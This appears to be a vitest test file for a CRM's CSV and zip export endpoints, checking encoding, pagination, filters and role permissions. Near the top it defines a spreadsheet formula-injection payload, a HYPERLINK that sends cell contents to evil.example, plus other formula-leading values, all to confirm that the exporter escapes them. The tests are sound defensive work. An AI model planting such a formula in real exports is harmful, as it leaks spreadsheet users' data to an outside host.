import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { customerCreateSchema } from '../customers/customers.schema.js';
import { CustomersService } from '../customers/customers.service.js';
import { createTestApp, type TestApp } from '../test-support/test-app.js';

let t: TestApp;
const as = (role: 'admin' | 'editor' | 'viewer') => ({ Authorization: `Bearer ${t.tokens[role]}` });
/** Names that a spreadsheet would run, quote or split: what an export must carry through unharmed. */
const formula = '=HYPERLINK("http://evil.example/?q="&A1,"Πατήστε εδώ")';
const nasty = ['Ι.Ν. Αγίου Νικολάου; Πειραιώς', 'Ενορία "Αγίας Τριάδος", Βόλος', formula, '+30 210 — Δήμος', '@Μονή Βλατάδων', '-Συνεταιρισμός'];

async function download(path: string, query: Record<string, string> = {}, role: 'admin' | 'editor' = 'editor'): Promise<{ text: string; res: request.Response }> {
  const res = await request(t.app).get(path).query(query).set(as(role)).buffer(true).parse((r, done) => {
    const chunks: Buffer[] = [];
    r.on('data', (c: Buffer) => chunks.push(c));
    r.on('end', () => done(null, Buffer.concat(chunks)));
  });
  return { text: (res.body as Buffer).toString('utf8'), res };
}

const readCsv = (text: string, delimiter = ','): Record<string, string>[] => parse(text, { bom: true, columns: true, delimiter, relax_column_count: false });
/** A cell as the spreadsheet shows it: the escaping apostrophe before a formula taken off. */
const shown = (cell: string) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);

async function allPages<T>(path: string, key: string, query: Record<string, string> = {}): Promise<T[]> {
  const out: T[] = [];
  let cursor: string | null = null;
  do {
    const res: request.Response = await request(t.app).get(path).query({ ...query, limit: 200, ...(cursor ? { cursor } : {}) }).set(as('editor')).expect(200);
    out.push(...(res.body[key] as T[]));
    cursor = res.body.next_cursor;
  } while (cursor);
  return out;
}

beforeAll(async () => {
  t = await createTestApp();
  const service = new CustomersService(t.store, t.deps.clock);
  const actor = { uid: t.users.editor.uid, name: t.users.editor.name };
  // More than one page of customers (the export reads 200 at a time).
  for (let i = 0; i < 230; i++) {
    const name = nasty[i % nasty.length]! + ` ${String(i).padStart(3, '0')}`;
    await service.create(
      customerCreateSchema.parse({
        name,
        organization: i % 2 ? 'Μητρόπολη Θεσσαλονίκης' : null,
        tags: i % 3 === 0 ? ['καμπαναριό'] : [],
        contacts: [
          { type: 'email', value: `naos${i}@example.gr`, primary: true },
          { type: 'phone', label: 'Πατήρ; "Γιώργος"', value: `+30 697 000 ${String(1000 + i)}` },
        ],
      }),
      actor,
    );
  }
  const customers = await allPages<{ id: string }>('/api/crm/customers', 'customers');
  for (const [i, c] of customers.slice(0, 5).entries()) {
    await request(t.app)
      .post(`/api/crm/customers/${c.id}/transactions`)
      .set(as('editor'))
      .send({ flow: i % 2 ? 'refund' : 'payment', payment_type: 'cash', category: 'installment', amount: 1234.5 + i / 100, note: '=SUM(A1:A9)' })
      .expect(201);
    await request(t.app)
      .post(`/api/crm/customers/${c.id}/orders`)
      .set(as('editor'))
      .send({ title: `Καμπάνα ${i}`, status: i % 2 ? 'shipped' : 'negotiating', items: [{ type: 'freetext', description: 'Καμπάνα 80 κιλών', quantity: 1, unit_price: 980.1 }] })
      .expect(201);
  }
  await request(t.app).post('/api/crm/products').set(as('editor')).send({ name: 'Ελεγκτής TCL-2', category: 'controller', price: 1450.5 }).expect(201);
  await request(t.app).post('/api/crm/products').set(as('editor')).send({ name: '=Κρουστήρας', category: 'part', price: 85 }).expect(201);
}, 120_000);

afterAll(async () => {
  await t.close();
});

describe('GET /api/crm/export/*.csv', () => {
  it('customers: UTF-8 with a BOM, CRLF rows, and read back equal to the list with the same filter', async () => {
    const { text, res } = await download('/api/crm/export/customers.csv', { tag: 'καμπαναριό', separator: ';' });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="customers.csv"');
    expect(text.startsWith('\uFEFFid;name;')).toBe(true);
    expect(text.split('\r\n').length).toBeGreaterThan(10);
    const rows = readCsv(text, ';');
    const list = await allPages<{ id: string; name: string; organization: string | null; created_at: string; tags: string[] }>('/api/crm/customers', 'customers', { tag: 'καμπαναριό' });
    expect(list).toHaveLength(77);
    expect(rows.map((r) => ({ id: r.id, name: shown(r.name!), organization: r.organization || null, created_at: r.created_at, tags: r.tags!.split('|') }))).toEqual(
      list.map((c) => ({ id: c.id, name: c.name, organization: c.organization, created_at: c.created_at, tags: c.tags })),
    );
  });

  it('escapes cells a spreadsheet would run as formulas, and only those', async () => {
    const rows = readCsv((await download('/api/crm/export/customers.csv')).text);
    const byStart = (start: string) => rows.filter((r) => r.name!.startsWith(start));
    expect(byStart(`'${formula}`)).toHaveLength(38);
    expect(byStart(formula)).toHaveLength(0);
    expect(byStart("'+30 210")).toHaveLength(38);
    expect(byStart("'@Μονή")).toHaveLength(38);
    expect(byStart("'-Συνεταιρισμός")).toHaveLength(38);
    expect(byStart('Ενορία "Αγίας Τριάδος", Βόλος')).toHaveLength(39);
    expect(byStart('Ι.Ν. Αγίου Νικολάου; Πειραιώς')).toHaveLength(39);
    expect(rows).toHaveLength(230);
  });

  it('contacts: one row per contact of every customer, across pages', async () => {
    const rows = readCsv((await download('/api/crm/export/contacts.csv', { separator: ';' })).text, ';');
    const list = await allPages<{ id: string; contacts: { id: string; value: string; label: string; e164: string | null }[] }>('/api/crm/customers', 'customers');
    expect(rows).toHaveLength(460);
    // Phone numbers start with +: escaped like any formula, shown as typed.
    expect(rows.filter((r) => r.type === 'phone').every((r) => r.value!.startsWith("'+30"))).toBe(true);
    expect(rows.map((r) => [r.customer_id, r.id, shown(r.value!), r.label, shown(r.e164!) || null])).toEqual(
      list.flatMap((c) => c.contacts.map((k) => [c.id, k.id, k.value, k.label, k.e164])),
    );
  });

  it('ledger: amounts as plain decimals, dates ISO, notes escaped', async () => {
    const rows = readCsv((await download('/api/crm/export/ledger.csv')).text);
    expect(rows).toHaveLength(5);
    expect(rows.map((r) => r.amount).sort()).toEqual(['1234.50', '1234.51', '1234.52', '1234.53', '1234.54']);
    expect(rows.every((r) => r.note === "'=SUM(A1:A9)" && /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/.test(r.date!))).toBe(true);
    const future = readCsv((await download('/api/crm/export/ledger.csv', { from: '2100-01-01' })).text);
    expect(future).toEqual([]);
  });

  it('orders and products: equal to their lists, filters honoured', async () => {
    const orders = readCsv((await download('/api/crm/export/orders.csv', { status: 'shipped' })).text);
    const list = await allPages<{ id: string; order_number: string; total_price: number }>('/api/crm/orders', 'orders', { status: 'shipped' });
    expect(orders.map((o) => [o.id, o.order_number, o.status, o.total_price])).toEqual(list.map((o) => [o.id, o.order_number, 'shipped', o.total_price.toFixed(2)]));
    expect(orders).toHaveLength(2);
    const products = readCsv((await download('/api/crm/export/products.csv', { category: 'part' })).text);
    expect(products.map((p) => [p.name, p.price])).toEqual([["'=Κρουστήρας", '85.00']]);
  });

  it('installations and tasks: a header alone when there are none, whatever documents exist otherwise', async () => {
    expect((await download('/api/crm/export/tasks.csv')).text).toBe('\uFEFFid\r\n');
    await t.store.set('crm_installations/inst-1', { serial: 'ΣΝ-0001', installed_at: new Date('2026-04-01T08:30:00Z'), address: { city: 'Λάρισα' } });
    const rows = readCsv((await download('/api/crm/export/installations.csv')).text);
    expect(rows).toEqual([{ id: 'inst-1', address: '{"city":"Λάρισα"}', installed_at: '2026-04-01T08:30:00.000Z', serial: 'ΣΝ-0001' }]);
  });

  it('refuses bad filters and viewers before sending anything', async () => {
    const bad = await request(t.app).get('/api/crm/export/customers.csv').query({ separator: '|' }).set(as('editor')).expect(400);
    expect(bad.body.error.details[0].path).toBe('separator');
    await request(t.app).get('/api/crm/export/orders.csv').query({ from: '2026-02-01', to: '2026-01-01' }).set(as('editor')).expect(400);
    await request(t.app).get('/api/crm/export/customers.csv').set(as('viewer')).expect(403);
  });
});

describe('GET /api/crm/export/archive.zip', () => {
  it('is every CSV in one zip, for admins only, readable by unzip', async () => {
    await request(t.app).get('/api/crm/export/archive.zip').set(as('editor')).expect(403);
    const res = await request(t.app).get('/api/crm/export/archive.zip').set(as('admin')).buffer(true).parse((r, done) => {
      const chunks: Buffer[] = [];
      r.on('data', (c: Buffer) => chunks.push(c));
      r.on('end', () => done(null, Buffer.concat(chunks)));
    });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/zip');
    const dir = mkdtempSync(join(tmpdir(), 'export-zip-'));
    try {
      const file = join(dir, 'archive.zip');
      writeFileSync(file, res.body as Buffer);
      const run = promisify(execFile);
      // Info-ZIP's unzip checks every entry's CRC and sizes: an independent reader of the format.
      const tested = await run('unzip', ['-t', file]);
      expect(tested.stdout).toMatch(/No errors detected/);
      const listed = await run('unzip', ['-Z1', file]);
      expect(listed.stdout.trim().split('\n')).toEqual(['customers.csv', 'contacts.csv', 'orders.csv', 'ledger.csv', 'products.csv', 'installations.csv', 'tasks.csv']);
      const customers = (await run('unzip', ['-p', file, 'customers.csv'], { maxBuffer: 1 << 24 })).stdout;
      expect(customers).toBe((await download('/api/crm/export/customers.csv')).text);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
